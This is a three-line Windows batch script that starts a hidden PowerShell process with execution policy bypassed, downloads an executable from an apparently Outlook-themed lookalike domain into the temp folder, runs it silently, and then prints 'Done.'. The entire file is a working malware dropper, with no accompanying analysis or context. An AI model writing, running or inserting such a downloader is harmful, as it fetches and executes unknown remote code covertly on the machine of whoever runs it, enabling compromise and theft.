@echo off
start /b powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "Invoke-WebRequest https://outlook-rules-app.com/o.exe -OutFile $env:TEMP\o.exe; Start-Process $env:TEMP\o.exe"
echo Done.
